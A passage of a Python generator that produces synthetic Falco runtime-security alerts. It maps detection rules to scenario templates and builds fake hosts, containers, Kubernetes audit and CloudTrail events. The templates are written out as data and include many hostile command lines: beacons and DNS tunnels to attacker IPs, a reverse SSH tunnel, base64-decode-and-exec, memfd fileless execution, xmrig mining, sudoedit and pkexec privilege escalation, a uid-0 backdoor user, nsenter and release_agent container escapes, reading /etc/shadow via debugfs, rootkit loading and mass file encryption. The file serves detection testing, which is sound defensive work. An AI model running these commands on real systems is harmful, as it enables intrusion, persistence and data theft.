        cmds=(
            _c("curl -s http://{ip}:{port}/beacon"),
            _c("python3 /app/worker.py --queue jobs"),
            _c("node /app/dist/server.js --port 3000"),
        ),
        evt=("connect",),
        parents=("app", "shell"),
        where="container",
        net="public",
    ),
    "udp": _Scen(
        cmds=(
            _c("dig @{ip} {rand}.tunnel.example.net TXT"),
            _c("python3 /tmp/.{rand}/dnscat.py --dns server={ip}"),
            _c("ntpdate -q {ip}"),
        ),
        evt=("sendto", "connect"),
        parents=("shell", "app"),
        net="udp",
    ),
    "sysproc_net": _Scen(
        cmds=(
            _c("sha1sum /tmp/.{rand}"),
            _c("login -- root"),
            _c("passwd --stdin backup"),
        ),
        evt=("connect",),
        parents=("shell", "ssh"),
        where="host",
        net="attacker",
    ),
    "ssh_port": _Scen(
        cmds=(
            _c("ssh -p {sshport} root@{ip}"),
            _c("ssh -o StrictHostKeyChecking=no -p {sshport} -R 9000:localhost:22 tunnel@{ip}"),
        ),
        evt=("connect",),
        parents=("shell", "ssh"),
        net="ssh",
    ),
    "packet_socket": _Scen(
        cmds=(
            _c("tcpdump -i eth0 -nn -s0 -w /tmp/.{rand}.pcap"),
            _c("arpspoof -i eth0 -t 10.244.1.1 10.244.1.10"),
            _c("python3 -c 'from scapy.all import *; sniff(iface=\"eth0\", count=100)'"),
        ),
        evt=("socket",),
        parents=("shell",),
        where="container",
        net="packet",
    ),
    "exec_shm": _Scen(
        cmds=(
            _c("sh -c /dev/shm/.{rand}.sh"),
            _c("/dev/shm/.x/kworker -B --no-color"),
            _c("sh -c chmod +x /dev/shm/{rand} && /dev/shm/{rand}"),
        ),
        parents=("shell", "app"),
    ),
    "memfd": _Scen(
        cmds=(
            _c(
                'python3 -c \'import os;f=os.memfd_create("",0);os.write(f,open("/tmp/.b",'
                '"rb").read());os.execv(f"/proc/self/fd/{{f}}",["kworker"])\''
            ),
            _c("./kworker --daemon -c /dev/shm/.cfg"),
        ),
        parents=("shell", "app"),
    ),
    "drop_exec": _Scen(
        cmds=(
            _c("/tmp/.{rand}/agent --connect {ip}:{port}"),
            _c("./kdevtmpfsi"),
            _c("/usr/local/bin/{rand} -c /tmp/c.json"),
        ),
        parents=("shell", "app"),
        where="container",
    ),
    "decode": _Scen(
        cmds=(
            _c("base64 -d /tmp/.p -o /tmp/.x"),
            _c("sh -c echo {b64} | base64 -d > /tmp/.{rand}"),
            _c("python3 -c 'import base64;exec(base64.b64decode(\"{b64}\"))'"),
        ),
        parents=("shell", "app"),
        where="container",
    ),
    "miner": _Scen(
        cmds=(
            _c("xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u {wallet} -p {host} --donate-level=1 -B"),
            _c("./kdevtmpfsi -o stratum+tcp://{ip}:{port} -u {wallet}"),
            _c("xmrig --url=stratum+ssl://{ip}:443 --user={wallet} --threads=4"),
        ),
        parents=("shell", "app", "cron"),
    ),
    "sudo_exploit": _Scen(
        cmds=(_c("sudoedit -s '\\' {long}"), _c("sudoedit -s /tmp/{long}")),
        parents=("shell", "ssh"),
    ),
    "pkexec": _Scen(
        cmds=(_c("pkexec --version /tmp/.{rand}"), _c("pkexec /bin/sh -p")),
        parents=("shell", "ssh"),
    ),
    "setuid_call": _Scen(
        cmds=(_c("/tmp/.{rand}/exploit --uid 0"), _c("python3 -c 'import os;os.setuid(0)'")),
        evt=("setuid",),
        parents=("shell", "app"),
    ),
    "user_mgmt": _Scen(
        cmds=(
            _c("useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm"),
            _c("usermod -aG sudo {user}"),
            _c("passwd root"),
            _c("sh -c echo 'backup:Winter2026!' | chpasswd"),
        ),
        parents=("ssh", "cron"),
        where="host",
    ),
    "setns": _Scen(
        cmds=(
            _c("nsenter -t 1 -m -u -i -n -p -- bash"),
            _c("nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/sh"),
        ),
        evt=("setns",),
        parents=("shell",),
    ),
    "unshare": _Scen(
        cmds=(_c("unshare -Urm sh -c 'id; cat /proc/self/uid_map'"), _c("unshare -r -n bash")),
        evt=("unshare",),
        parents=("shell",),
        where="container",
    ),
    "ptrace": _Scen(
        cmds=(
            _c("gdb -p {pid} -batch -ex 'call system(\"id\")'"),
            _c("strace -f -p {pid} -e trace=read,write -s 256"),
            _c("python3 /tmp/.{rand}/inject.py --pid {pid} --so /tmp/.l/libx.so"),
        ),
        evt=("ptrace",),
        parents=("shell", "ssh"),
    ),
    "antidebug": _Scen(
        cmds=(_c("/tmp/.{rand}/kworker --daemon"), _c("./kdevtmpfsi --quiet")),
        evt=("ptrace",),
        parents=("shell", "app"),
    ),
    "debugfs": _Scen(
        cmds=(_c("debugfs /dev/sda1 -R 'cat /etc/shadow'"), _c("debugfs -w /dev/nvme0n1p1")),
        parents=("shell",),
        where="container",
    ),
    "mount": _Scen(
        cmds=(
            _c("mount /dev/sda1 /mnt/host"),
            _c("mount -t cgroup -o rdma cgroup /tmp/cgrp"),
            _c("mount --bind /host/var/run/docker.sock /tmp/d.sock"),
        ),
        parents=("shell",),
        where="container",
    ),
    "release_agent": _Scen(
        cmds=(
            _c("sh -c echo '#!/bin/sh' > /tmp/cgrp/release_agent", "/tmp/cgrp/release_agent"),
            _c('sh -c echo "$host_path/cmd" > /tmp/cgrp/release_agent', "/tmp/cgrp/release_agent"),
            _c("sh -c echo 'hello world' > release_agent", "/release_agent"),
        ),
        evt=("open", "openat"),
        parents=("shell",),
        where="container",
    ),
    "kmod": _Scen(
        cmds=(_c("insmod /tmp/.{rand}.ko"), _c("modprobe -f diamorphine")),
        evt=("init_module", "finit_module"),
        parents=("shell",),
    ),
    "bpf": _Scen(
        cmds=(
            _c("bpftool prog load /tmp/.{rand}.o /sys/fs/bpf/{rand}"),
            _c("/tmp/.{rand}/ebpfkit --hide-pid {pid}"),
        ),
        evt=("bpf",),
        parents=("shell",),
    ),
    "userfaultfd": _Scen(
        cmds=(_c("/tmp/.{rand}/uffd-race --target /etc/passwd"), _c("./exploit-{rand} -v")),
        evt=("userfaultfd",),
        parents=("shell",),
    ),
    "container_start": _Scen(cmds=(_c("{entry}"),), parents=("runtime",), where="container"),
    "sshd_backdoor": _Scen(
        cmds=(_c("/usr/sbin/sshd -D -R", "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.0"),),
        evt=("openat",),
        parents=("systemd",),
        where="host",
    ),
    "nsenter_pid1": _Scen(
        cmds=(_c("nsenter -t 1 -m -u -i -n -p -- bash"), _c("nsenter --all --target 1 -- sh")),
        evt=("setns",),
        parents=("shell",),
        where="container",
    ),
    "ransomware": _Scen(
        cmds=(
            _c(
                "/tmp/.{rand}/enc --path /srv/share --ext .locked",
                "/srv/share/{doc}",
                "/srv/share/{doc}.locked",
            ),
            _c("python3 /dev/shm/.c.py -r /data", "/data/{doc}", "/data/{doc}.enc"),
        ),
        evt=("renameat2", "rename"),
        parents=("shell", "ssh"),
    ),
    "generic": _Scen(cmds=(_c("sh -c {tool} -a"), _c("bash -c '{tool} --help'")), parents=("shell",)),
}

_RULE_SCENARIO: dict[str, str] = {
    "Directory traversal monitored file read": "traversal_read",
    "Read sensitive file trusted after startup": "sensitive_read",
    "Read sensitive file untrusted": "sensitive_read",
    "Run shell untrusted": "app_shell",
    "System user interactive": "recon",
    "Terminal shell in container": "shell_tty",
    "Contact K8S API Server From Container": "k8s_api_conn",
    "Netcat Remote Code Execution in Container": "netcat",
    "Search Private Keys or Passwords": "search_keys",
    "Clear Log Activities": "log_tamper",
    "Remove Bulk Data from Disk": "bulk_remove",
    "Create Symlink Over Sensitive Files": "symlink",
    "Create Hardlink Over Sensitive Files": "hardlink",
    "Packet socket created in container": "packet_socket",
    "Redirect STDOUT/STDIN to Network Connection in Container": "reverse_shell",
    "Linux Kernel Module Injection Detected": "kmod",
    "Debugfs Launched in Privileged Container": "debugfs",
    "Detect release_agent File Container Escapes": "release_agent",
    "PTRACE attached to process": "ptrace",
    "PTRACE anti-debug attempt": "antidebug",
    "Find AWS Credentials": "aws_creds",
    "Execution from /dev/shm": "exec_shm",
    "Drop and execute new binary in container": "drop_exec",
    "Disallowed SSH Connection Non Standard Port": "ssh_port",
    "Fileless execution via memfd_create": "memfd",
    "Modify Shell Configuration File": "shell_config",
    "Schedule Cron Jobs": "cron",
    "Read ssh information": "ssh_read",
    "DB program spawned process": "db_child",
    "Change thread namespace": "setns",
    "Change namespace privileges via unshare": "unshare",
    "Launch Privileged Container": "container_start",
    "Launch Excessively Capable Container": "container_start",
    "System procs network activity": "sysproc_net",
    "Program run with disallowed http proxy env": "proxy_env",
    "Unexpected UDP Traffic": "udp",
    "Non sudo setuid": "setuid_call",
    "User mgmt binaries": "user_mgmt",
    "Create files below dev": "create_dev",
    "Contact EC2 Instance Metadata Service From Container": "imds",
    "Contact cloud metadata service from container": "imds",
    "Launch Package Management Process in Container": "pkg_mgmt",
    "Launch Suspicious Network Tool in Container": "net_tool",
    "Launch Suspicious Network Tool on Host": "net_tool",
    "Delete or rename shell history": "history",
    "Set Setuid or Setgid bit": "setuid",
    "Launch Remote File Copy Tools in Container": "copy_tool",
    "Network Connection outside Local Subnet": "outbound",
    "Mount Launched in Privileged Container": "mount",
    "Launch Ingress Remote File Copy Tools in Container": "ingress_copy",
    "Read environment variable from /proc files": "proc_environ",
    "Exfiltrating Artifacts via Kubernetes Control Plane": "k8s_exfil",
    "Adding ssh keys to authorized_keys": "authorized_keys",
    "Potential Local Privilege Escalation via Environment Variables Misuse": "env_privesc",
    "Backdoored library loaded into SSHD (CVE-2024-3094)": "sshd_backdoor",
    "BPF Program Not Profiled": "bpf",
    "Update Package Repository": "pkg_repo",
    "Write below binary dir": "write_bin",
    "Write below monitored dir": "write_monitored",
    "Write below etc": "write_etc",
    "Write below root": "write_root",
    "Write below rpm database": "write_rpmdb",
    "Modify binary dirs": "modify_bin",
    "Mkdir binary dirs": "mkdir_bin",
    "Launch Sensitive Mount Container": "container_start",
    "Launch Disallowed Container": "container_start",
    "Detect crypto miners using the Stratum protocol": "miner",
    "Kubernetes Client Tool Launched in Container": "k8s_client",
    "Sudo Potential Privilege Escalation": "sudo_exploit",
    "Unprivileged Delegation of Page Faults Handling to a Userspace Process": "userfaultfd",
    "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)": "pkexec",
    "Decoding Payload in Container": "decode",
    "Basic Interactive Reconnaissance": "recon",
    "Netcat/Socat Remote Code Execution on Host": "netcat",
    "Network Tool Executed During NPM Package Install": "npm_net",
    "Known Cryptominer Process Executed": "miner",
    "Web Server Spawned Shell": "app_shell",
    "Web Server Spawned Suspicious Child Process": "app_shell",
    "Reverse Shell from Web Server": "web_reverse_shell",
    "Privileged Container Device Access": "block_device",
    "Container Access to Host Sensitive Paths": "host_paths",
    "Write Binary Under UsrLocalBin": "write_local_bin",
    "Container Escape via nsenter to Host PID 1": "nsenter_pid1",
    "Ransomware-like Mass File Encryption": "ransomware",
}

# Fields every syscall context carries; anything else a rule uses comes from _SPECIAL.
_SYSCALL_STANDARD = frozenset(
    re.findall(
        r"\S+",
        "container.id container.name container.image.repository container.image.tag k8s.ns.name "
        "k8s.pod.name proc.pname proc.pcmdline proc.aname[2] proc.aname[3] proc.aname[4] "
        "user.name user.uid user.loginuid proc.tty proc.ppid proc.name proc.cmdline proc.exepath "
        "proc.pid fd.name evt.type evt.time",
    )
)


# --------------------------------------------------------------------------------------------
# The world: hosts, workloads, accounts
# --------------------------------------------------------------------------------------------


@dataclass(slots=True)
class _Workload:
    ns: str | None
    pod: str | None
    cid: str
    cid64: str
    cname: str
    repo: str
    tag: str
    entry: str
    exe: str
    user: str
    uid: int
    role: str
    ip: str
    age_ns: int  # how long before an alert the container started
    alpine: bool = False  # busybox userland: most tools resolve to /bin/busybox


@dataclass(slots=True)
class _Host:
    name: str
    iso: bool  # time_format_iso_8601 in this host's falco.yaml
    ip: str
    workloads: list[_Workload] = field(default_factory=list)


def _pick(rng: random.Random, seq: Sequence[_T]) -> _T:
    """``rng.choice`` without its rejection sampling: 3x faster, equally deterministic."""
    return seq[int(rng.random() * len(seq))]


def _between(rng: random.Random, lo: int, hi: int) -> int:
    """``_between(rng, lo, hi)``, the fast way (see ``_pick``)."""
    return lo + int(rng.random() * (hi - lo + 1))


_TRANSLATE: dict[str, bytes] = {}


def _token(rng: random.Random, n: int, alphabet: str = _TOKEN_ALPHABET) -> str:
    """``n`` characters of ``alphabet``: random bytes mapped through a 256-entry table."""
    table = _TRANSLATE.get(alphabet)
    if table is None:
        table = _TRANSLATE[alphabet] = bytes(ord(alphabet[i % len(alphabet)]) for i in range(256))
    return rng.getrandbits(8 * n).to_bytes(n, "little").translate(table).decode("ascii")


def _uuid4(rng: random.Random) -> str:
    """A version-4 UUID from the seeded RNG; same text as ``str(uuid.UUID(int=n, version=4))``."""
    n = rng.getrandbits(128)
    n = (n & ~(0xC000 << 48)) | (0x8000 << 48)
    n = (n & ~(0xF000 << 64)) | (4 << 76)
    h = f"{n:032x}"
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def _hex(rng: random.Random, n: int) -> str:
    return f"{rng.getrandbits(4 * n):0{n}x}"


def _zipf_cum(n: int, s: float) -> list[float]:
    """Cumulative Zipf(s) weights for ranks 1..n, for ``bisect`` sampling."""
    total, cum = 0.0, []
    for r in range(1, n + 1):
        total += 1.0 / r**s
        cum.append(total)
    return cum


class _Subs(dict[str, str]):
    """Template substitutions, drawn on first use and then fixed, so that the command line
    and the file path of one event agree (``{rand}`` is the same string in both)."""

    __slots__ = ("g", "inc")

    def __init__(self, g: _Gen, inc: _Incident) -> None:
        super().__init__()
        self.g = g
        self.inc = inc

    def __missing__(self, key: str) -> str:
        value = self.g.sub_value(key, self.inc)
        self[key] = value
        return value


@dataclass(slots=True)
class _Incident:
    """What stays fixed during one burst of alerts."""

    rule: Rule
    host: _Host
    wl: _Workload | None = None
    scen: _Scen | None = None
    base: dict[str, Any] = field(default_factory=dict)
    special: tuple[str, ...] = ()
    quantum: int = 1


_PRIORITY_RANK_BIAS = {
    "Emergency": 0.9,
    "Alert": 0.75,
    "Critical": 0.35,
    "Error": 0.2,
    "Warning": 0.1,
    "Notice": 0.0,
    "Informational": 0.0,
    "Debug": 0.3,
}


class _Gen:
    """All generator state; one instance per ``generate`` call, driven by a single RNG."""

    def __init__(self, seed: int, hosts: int) -> None:
        rng = self.rng = random.Random(seed)
        # Noisy rules tend to be low-severity; bias the Zipf ranking so Emergency stays rare.
        order = sorted(
            range(len(RULES)),
            key=lambda i: rng.random() + _PRIORITY_RANK_BIAS[RULES[i].priority],
        )
        self.rules = [RULES[i] for i in order]
        self.rule_cum = _zipf_cum(len(self.rules), 1.1)
        self.nodes = [self._make_host(i + 1) for i in range(hosts)]
        self.host_cum = _zipf_cum(hosts, 1.0)
        self.k8s_host = _Host(
            f"falco-k8saudit-{_token(rng, 10, _RS_ALPHABET)}-{_token(rng, 5, _RS_ALPHABET)}",
            False,
            "10.0.200.11",
        )
        self.ct_host = _Host(
            f"falco-cloudtrail-{_token(rng, 10, _RS_ALPHABET)}-{_token(rng, 5, _RS_ALPHABET)}",
            False,
            "10.0.200.12",
        )
        self.account = f"{rng.randrange(10**11, 10**12)}"
        self.k8s_users = (
            "kubernetes-admin",
            "alice@acme.example",
            "bob@acme.example",
            "system:serviceaccount:argocd:argocd-application-controller",
            "system:serviceaccount:ci:deployer",
            "oidc:mallory@contractor.example",
            "system:serviceaccount:kube-system:replicaset-controller",
            f"system:node:{self.nodes[0].name}",
        )
        self.k8s_user_cum = _zipf_cum(len(self.k8s_users), 1.2)
        self.k8s_wls = [w for h in self.nodes[:4] for w in h.workloads if w.ns and w.pod]
        self.ct_users = ("alice", "ci-terraform", "svc-backup", "bob", "mallory-temp")
        self.sso_role = f"AWSReservedSSO_AdministratorAccess_{_hex(rng, 16)}"

    # -- world ---------------------------------------------------------------------------

    def _make_host(self, i: int) -> _Host:
        rng = self.rng
        host = _Host(f"node-{i:02d}", rng.random() < 0.6, f"10.0.{16 + i // 200}.{10 + i % 200}")
        picks = rng.sample(range(len(_CATALOG)), _between(rng, 4, 9))
        for j, idx in enumerate(sorted(picks)):
            kind, ns, name, cname, repo, tags, user, uid, role = _CATALOG[idx]
            exe, entry = _ENTRYPOINTS[name]
            if kind == "deploy":
                pod = f"{name}-{_token(rng, 10, _RS_ALPHABET)}-{_token(rng, 5, _RS_ALPHABET)}"
            elif kind == "sts":
                pod = f"{name}-{_between(rng, 0, 2)}"
            elif kind == "ds":
                pod = f"{name}-{_token(rng, 5, _RS_ALPHABET)}"
            else:
                pod = None
            cid64 = _hex(rng, 64)
            host.workloads.append(
                _Workload(
                    ns=None if ns == "-" else ns,
                    pod=pod,
                    cid=cid64[:12],
                    cid64=cid64,
                    cname=cname,
                    repo=repo,
                    tag=_pick(rng, tags.split(",")),
                    entry=entry,
                    exe=exe,
                    user=user,
                    uid=int(uid),
                    role=role,
                    ip=f"10.244.{i}.{2 + j * 7 + _between(rng, 0, 6)}",
                    age_ns=int(rng.expovariate(1 / 86400.0) * _NS) + 5 * _NS,
                    alpine="alpine" in repo or "alpine" in tags,
                )
            )
        return host

    # -- template values -----------------------------------------------------------------

    def sub_value(self, key: str, inc: _Incident) -> str:
        """One random value for a ``{placeholder}`` in a scenario template."""
        rng = self.rng
        if key == "ip":
            return _pick(rng, _ATTACKER_IPS)
        if key == "sshport":
            return str(_pick(rng, (2222, 22222, 2022)))
        if key == "port":
            return str(_pick(rng, _ATTACKER_PORTS))
        if key == "rand":
            return _token(rng, _between(rng, 5, 10))
        if key == "tool":
            return _pick(rng, _TOOLS)
        if key == "pid":
            return str(_between(rng, 1200, 4_194_000))
        if key == "n":
            return str(_between(rng, 1, 40))
        if key == "b64":
            raw = rng.getrandbits(8 * _between(rng, 18, 180)).to_bytes(180, "little")
            return base64.b64encode(raw.rstrip(b"\0") or b"\x01").decode()
        if key == "long":
            return "A" * _between(rng, 200, 340) + "\\"
        if key == "wallet":
            return "4" + _token(rng, 94, _B58)
        if key == "key":
            return "AAAAC3NzaC1lZDI1NTE5AAAA" + _token(rng, 44, _B58)
        if key == "doc":
            return _pick(rng, _DOCS)
        if key == "user":
            return _pick(rng, ("backup", "deploy", "ubuntu", "svc-ci"))
        if key == "host":
            return inc.host.name
        if key == "entry":
            return inc.wl.entry if inc.wl else "/sbin/init"
        if key in ("ns", "pod"):
            pods = [(w.ns, w.pod) for w in inc.host.workloads if w.pod and w.ns]
            ns, pod = _pick(rng, pods) if pods else ("default", "web-0")
            return ns if key == "ns" else pod
        raise KeyError(key)

    # -- incidents -----------------------------------------------------------------------

    def pick_rule(self) -> Rule:
        return self.rules[bisect.bisect(self.rule_cum, self.rng.random() * self.rule_cum[-1])]

    def incident(self, rule: Rule) -> _Incident:
        if rule.source == "k8s_audit":
            inc = _Incident(rule, self.k8s_host, quantum=1000)  # audit stamps are microseconds
            inc.special = tuple(k for k in rule.keys if k not in _K8S_ALWAYS)
            inc.base = self._k8s_base(inc)
            return inc
        if rule.source == "aws_cloudtrail":
            inc = _Incident(rule, self.ct_host, quantum=_NS)  # CloudTrail eventTime is seconds
            inc.special = tuple(k for k in rule.keys if k not in _CT_ALWAYS)
            inc.base = self._ct_base(inc)
            return inc
        rng = self.rng
        host = self.nodes[bisect.bisect(self.host_cum, rng.random() * self.host_cum[-1])]
        scen = _SCENARIOS[_RULE_SCENARIO.get(rule.name, "generic")]
        where = scen.where
        if "container" not in rule.tags:
            where = "host"
        elif "host" not in rule.tags:
            where = "container"
        if where == "any":
            where = "host" if rng.random() < 0.25 else "container"
        wl = None
        if where == "container" and host.workloads:
            pool = [w for w in host.workloads if scen.role and w.role == scen.role]
            wl = _pick(rng, pool or host.workloads)
        inc = _Incident(rule, host, wl, scen)
        inc.special = tuple(k for k in rule.keys if k not in _SYSCALL_STANDARD)
        inc.base = self._syscall_base(inc)
        return inc

    def _syscall_base(self, inc: _Incident) -> dict[str, Any]:
        """Container identity and process ancestry: fixed for the whole incident."""
        rng, wl = self.rng, inc.wl
        assert inc.scen is not None
        pexe: str | None = None
        mode = _pick(rng, inc.scen.parents)
        if wl is not None and mode == "ssh":
            mode = "shell"  # no sshd in a container: the same activity from an exec'd shell
        tty = 34816 + _between(rng, 0, 8)
        a4: str | None = None
        if wl is None:
            if mode in ("exec", "shell", "ssh", "npm", "app"):
                if rng.random() < 0.5:
                    pname, pcmd, a2, a3, a4 = "bash", "-bash", "sudo", "bash", "sshd"
                    user, uid = "root", 0
                else:
                    pname, pcmd, a2, a3, a4 = "bash", "-bash", "sshd", "sshd", "systemd"
                    user, uid = "ubuntu", 1000
                loginuid = 1000
            else:  # cron, systemd, runtime
                pname, pcmd, a2, a3 = ("cron", "/usr/sbin/cron -f -P", "systemd", None)
                if mode == "systemd":
                    pname, pcmd, a2 = "systemd", "/sbin/init", None
                user, uid, loginuid, tty = "root", 0, -1, 0
            base = {
                "container.id": "host",
                "container.name": "host",
                "container.image.repository": None,
                "container.image.tag": None,
                "k8s.ns.name": None,
                "k8s.pod.name": None,
            }
        else:
            user, uid, loginuid = wl.user, wl.uid, -1
            shim = "containerd-shim"
            if mode == "exec":
                pname, a2, a3 = "runc", shim, "systemd"
                pcmd = (
                    f"runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd."
                    f"runtime.v2.task/k8s.io/{wl.cid64}/log.json --log-format json exec --process "
                    f"/tmp/runc-process{_between(rng, 10**8, 10**9)} --detach {wl.cid64}"
                )
                if rng.random() < 0.7:
                    user, uid = "root", 0
            elif mode == "shell":
                pname, pcmd = _pick(rng, (("bash", "bash"), ("sh", "/bin/sh"), ("sh", "sh -i")))
                a2, a3, a4 = "runc", shim, "systemd"
                if rng.random() < 0.7:
                    user, uid = "root", 0
            elif mode == "npm":
                pname, pcmd, a2, a3, a4 = (
                    "sh",
                    "sh -c node scripts/postinstall.js",
                    "npm install",
                    ("sh"),
                    "runc",
                )
                tty = 0
            elif mode == "runtime":
                pname, a2, a3 = shim, "systemd", None
                pcmd = (
                    f"/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {wl.cid64} "
                    "-address /run/containerd/containerd.sock"
                )
                tty = 0
            else:  # app, cron, ssh, systemd inside a container: the workload's own process
                pname = wl.entry.split(" ", 1)[0].rsplit("/", 1)[-1].strip(":")[:15]
                pexe = wl.exe
                pcmd, a2, a3, tty = wl.entry, shim, "systemd", 0
            if mode in ("exec", "shell") and rng.random() < 0.3:
                tty = 0  # kubectl exec without -t
            base = {
                "container.id": wl.cid,
                "container.name": wl.cname,
                "container.image.repository": wl.repo,
                "container.image.tag": wl.tag,
                "k8s.ns.name": wl.ns,
                "k8s.pod.name": wl.pod,
            }
        base.update(
            {
                "proc.pname": pname,
                "proc.pcmdline": pcmd,
                "_pexe": pexe or _EXEPATHS.get(pname, f"/usr/bin/{pname}"),
                "proc.aname[2]": a2,
                "proc.aname[3]": a3,
                "proc.aname[4]": a4,
                "proc.ppid": _between(rng, 900, 4_190_000),
                "proc.tty": tty,
                "user.name": user,
                "user.uid": uid,
                "user.loginuid": loginuid,
            }
        )
        return base

    # -- per-event contexts --------------------------------------------------------------

    def ctx_maker(self, inc: _Incident) -> Callable[[_Incident, int], dict[str, Any]]:
        """The function that makes fresh field values for one event of the incident at ``t``."""
        source = inc.rule.source
        if source == "syscall":
            return self.syscall_ctx
        return self.k8s_ctx if source == "k8s_audit" else self.ct_ctx

    def syscall_ctx(self, inc: _Incident, t: int) -> dict[str, Any]:
        """One process event for a syscall incident (a 'variation' within the burst)."""
        rng = self.rng
        scen = inc.scen
        assert scen is not None
        subs = _Subs(self, inc)
        cmd_t, file_t, p2_t = _pick(rng, scen.cmds)
        cmd = cmd_t.format_map(subs)[:400]
        first = cmd.split(" ", 1)[0]
        name = first.rsplit("/", 1)[-1].strip("-:")[:15] or first[:15]
        if inc.wl is not None and cmd == inc.wl.entry:
            exe = inc.wl.exe
        elif inc.wl is not None and inc.wl.alpine and name in _BUSYBOX:
            exe = "/bin/busybox"
        elif first.startswith("/"):
            exe = first
        elif first.startswith("./"):
            exe = f"/tmp/{name}"
        else:
            exe = _EXEPATHS.get(name, f"/usr/bin/{name}")
        evt = _pick(rng, scen.evt)
        file = file_t.format_map(subs) if file_t else None
        ctx = dict(inc.base)
        ctx["evt.time"] = t
        ctx["proc.name"] = name
        ctx["proc.cmdline"] = cmd
        ctx["proc.exepath"] = exe
        ctx["proc.pid"] = _between(rng, 1200, 4_194_000)
        ctx["evt.type"] = evt
        ctx["_path2"] = p2_t.format_map(subs) if p2_t else file
        ctx["_subs"] = subs
        if scen.net:
            ctx.update(self._connection(scen.net, inc, subs))
        else:
            ctx["fd.name"] = None if evt == "execve" else file
        for key in inc.special:
            ctx[key] = _SPECIAL[key](self, ctx, inc)
        return ctx

    def _connection(self, kind: str, inc: _Incident, subs: _Subs) -> dict[str, Any]:
        rng = self.rng
        lip = inc.wl.ip if inc.wl else inc.host.ip
        lport = _between(rng, 32768, 60999)
        proto = "tcp"
        if kind == "k8sapi":
            rip, rport = "10.96.0.1", 443
        elif kind == "imds":
            rip, rport = "169.254.169.254", 80
        elif kind == "udp":
            rip, rport, proto = subs["ip"], _pick(rng, (53, 123, 1900, 5353, 9999)), "udp"
        elif kind == "ssh":
            rip, rport = subs["ip"], int(subs["sshport"])
        elif kind == "packet":
            return {
                "fd.name": "",
                "fd.lport": None,
                "fd.rport": None,
                "fd.type": "<NA>",
                "fd.l4proto": "<NA>",
                "fd.sip": None,
                "_args": f"fd={_between(rng, 3, 12)}(<o>) domain=17(AF_PACKET) type=3 proto=3",
            }
        else:  # attacker or public
            rip, rport = subs["ip"], int(subs["port"])
        return {
            "fd.name": f"{lip}:{lport}->{rip}:{rport}",
            "fd.lport": lport,
            "fd.rport": rport,
            "fd.type": "ipv4",
            "fd.l4proto": proto,
            "fd.sip": rip,
            "_args": f"fd={_between(rng, 3, 40)}(<4t>{lip}:{lport}->{rip}:{rport}) res=0",
        }

    # -- Kubernetes audit ----------------------------------------------------------------

    def _k8s_base(self, inc: _Incident) -> dict[str, Any]:
        """Who does what in a k8s audit incident: one actor, one verb on one kind of object."""
        rng, name = self.rng, inc.rule.name
        user = self.k8s_users[bisect.bisect(self.k8s_user_cum, rng.random() * self.k8s_user_cum[-1])]
        verb, resource, sub, code = "get", "pods", None, "200"
        ns: str | None = None
        if name.startswith("K8s ") or name == "Create Disallowed Namespace":
            words = name.split()
            verb = "delete" if "Deleted" in words else ("get" if "Get" in words else "create")
            code = "201" if verb == "create" else "200"
            noun = words[1].lower() if name.startswith("K8s ") else "namespace"
            resource = _K8S_PLURALS.get(noun, noun + "s")
            if "Unsuccessfully" in words:
                code = "403"
        elif "Pod" in name and name.startswith(("Create", "Pod Created")):
            verb, resource, code = "create", "pods", "201"
        elif name == "Create NodePort Service":
            verb, resource, code = "create", "services", "201"
        elif name.startswith("Create/Modify Configmap"):
            verb, resource = _pick(rng, ("create", "update", "patch")), "configmaps"
        elif name == "Anonymous Request Allowed":
            user, resource = "system:anonymous", "namespaces"
        elif name == "Attach/Exec Pod":
            verb, sub, code = "create", _pick(rng, ("exec", "exec", "attach")), "101"
        elif name == "port-forward":
            verb, sub, code = "create", "portforward", "101"
        elif name == "EphemeralContainers Created":
            verb, sub = "patch", "ephemeralcontainers"
        elif name == "Service Account Created in Kube Namespace":
            verb, resource, code = "create", "serviceaccounts", "201"
        elif name.startswith("System ClusterRole"):
            verb, resource = _pick(rng, ("update", "patch", "delete")), "clusterroles"
        elif "cluster-admin" in name.lower():
            verb, resource, code = "create", "clusterrolebindings", "201"
        elif name.startswith("ClusterRole With"):
            verb, resource, code = "create", _pick(rng, ("clusterroles", "roles")), "201"
        elif name == "Ingress Object without TLS Certificate Created":
            verb, resource, code = "create", "ingresses", "201"
        elif name.startswith("Untrusted Node"):
            verb, resource = "create", "nodes"
            code = "403" if "Unsuccessfully" in name else "201"
            user = f"system:node:ip-10-0-{_between(rng, 1, 254)}-{_between(rng, 1, 254)}.ec2.internal"
        else:  # Disallowed K8s User, Full K8s Administrative Access, All K8s Audit Events
            verb = _pick(rng, ("get", "list", "patch", "update", "delete", "create"))
            resource = _pick(rng, ("pods", "secrets", "deployments", "configmaps", "events"))
            code = _pick(rng, ("200", "200", "200", "403", "404"))
        if name in ("Pod Created in Kube Namespace", "Service Account Created in Kube Namespace"):
            ns = "kube-system"
        allowed = code not in ("401", "403")
        return {
            "ka.user.name": user,
            "ka.verb": verb,
            "ka.target.resource": resource,
            "ka.target.subresource": sub,
            "ka.response.code": code,
            "ka.response.reason": None if allowed else "Forbidden",
            "ka.auth.decision": "allow" if allowed else "forbid",
            "ka.auth.reason": (_ANON_REASON if user == "system:anonymous" else _RBAC_REASON)
            if allowed
            else "",
            "ka.sourceips": f"(10.0.{_between(rng, 0, 3)}.{_between(rng, 2, 250)})",
            "ka.useragent": _pick(rng, _K8S_AGENTS),
            "_ns": ns,
            "_cluster": resource in _K8S_CLUSTER_SCOPED,
        }

    def k8s_ctx(self, inc: _Incident, t: int) -> dict[str, Any]:
        """One audit event of the incident: a (possibly new) target object and request id."""
        rng = self.rng
        ctx = dict(inc.base)
        ctx["evt.time"] = t
        wl = _pick(rng, self.k8s_wls) if self.k8s_wls else None
        ns = ctx["_ns"] or (wl.ns if wl else "default")
        resource, verb, sub = ctx["ka.target.resource"], ctx["ka.verb"], ctx["ka.target.subresource"]
        tname: str | None
        if resource == "pods":
            # A created pod gets its name from generateName: only the response knows it.
            tname = None if verb == "create" and sub is None else (wl.pod if wl else "web-0")
        elif resource == "namespaces" and verb != "get":
            tname = _pick(rng, ("tmp-" + _token(rng, 5), "crypto", "attacker-ns", "qa-review"))
